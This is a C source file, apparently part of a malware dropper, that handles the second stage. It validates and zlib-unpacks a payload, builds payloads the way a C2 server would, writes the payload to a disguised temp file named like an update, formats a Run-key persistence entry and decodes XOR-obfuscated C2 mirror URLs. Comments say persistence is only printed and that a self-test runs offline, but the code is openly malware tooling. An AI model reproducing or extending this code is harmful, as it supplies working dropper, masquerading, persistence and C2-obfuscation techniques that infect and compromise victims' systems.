/* Dropper: the second stage (header, crc, zlib), where it goes, how it would persist. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "dropper.h"

int verify_stage(const uint8_t *p, size_t n, struct stage_hdr *h)
{
    if (n < sizeof(*h))
        return -1;
    memcpy(h, p, sizeof(*h));
    if (h->magic != STAGE_MAGIC || h->zlen + sizeof(*h) > n || h->rawlen > (1u << 24))
        return -2;
    if ((uint32_t)crc32(0L, p + sizeof(*h), h->zlen) != h->crc)
        return -3;
    return 0;
}

uint8_t *unpack_stage(const uint8_t *p, const struct stage_hdr *h)
{
    uLongf out = h->rawlen;
    uint8_t *raw = malloc(out ? out : 1);
    if (!raw)
        return NULL;
    if (uncompress(raw, &out, p + sizeof(*h), h->zlen) != Z_OK || out != h->rawlen) {
        free(raw);
        return NULL;
    }
    return raw;
}

/* what the C2 serves (used by the offline self-test) */
size_t make_stage(uint8_t *out, size_t cap, const void *payload, size_t n)
{
    struct stage_hdr h = {STAGE_MAGIC, 0, (uint32_t)n, 0};
    if (cap <= sizeof(h))
        return 0;
    uLongf zl = (uLongf)(cap - sizeof(h));
    if (compress2(out + sizeof(h), &zl, payload, (uLong)n, 9) != Z_OK)
        return 0;
    h.zlen = (uint32_t)zl;
    h.crc = (uint32_t)crc32(0L, out + sizeof(h), (uInt)zl);
    memcpy(out, &h, sizeof(h));
    return sizeof(h) + zl;
}

void stage_path(char *out, size_t cap, uint32_t host_id)
{
    char fmt[64];
    const char *t = alpha_str(ASTR_TEMP); /* "%TEMP%\msupd_%04x.tmp" */
    const char *tmp = getenv("TEMP");
    char sep = '\\';
    if (!tmp) {
        tmp = getenv("TMPDIR");
        sep = '/';
    }
    if (!tmp)
        tmp = "/tmp";
    snprintf(fmt, sizeof(fmt), "%s%c%s", tmp, sep, t + 7);
    snprintf(out, cap, fmt, host_id & 0xffff);
}

#if TOOL_VERSION >= 2
/* the Run-key value the real tool would create (printed only) */
void persist_entry(char *out, size_t cap, const char *path)
{
    char name[48];
    alpha_mutex_name(name, sizeof(name), alpha_hash_api(path));
    const char *leaf = strrchr(name, '\\');
    snprintf(out, cap, "HKCU\\%s\\%s = \"%s%s\"", alpha_str(ASTR_RUNKEY), leaf ? leaf + 1 : name,
             alpha_str(ASTR_CMD), path);
}
#endif

#if TOOL_VERSION >= 3
/* mirrors: URL XOR (0x5c + index), in the Alpha base64 */
static const char *mirrors_b64[] = {
    "Q2JrO2mpFgPyN3drQWmbRVTmPVzzRA8cOMwcScJbFbKbQLl.",
    "QVnsOViqFq8dP3scR2XlP2daR7PcR2oqCZosEq8w",
    "QLrtOpUaFZmqCq1uEg1yEpizDZoaNbh.",
};

int select_mirror(unsigned attempt, struct url *u)
{
    uint8_t raw[96];
    unsigned n = sizeof(mirrors_b64) / sizeof(mirrors_b64[0]);
    unsigned k = attempt % n;
    long len = alpha_b64_decode(mirrors_b64[k], raw, sizeof(raw) - 1);
    if (len <= 0)
        return -1;
    for (long i = 0; i < len; i++)
        raw[i] ^= (uint8_t)(0x5c + k);
    raw[len] = 0;
    for (long i = 0; i < len; i++)
        if (raw[i] < 0x20 || raw[i] > 0x7e)
            return -2;
    return parse_url((const char *)raw, u);
}
#endif
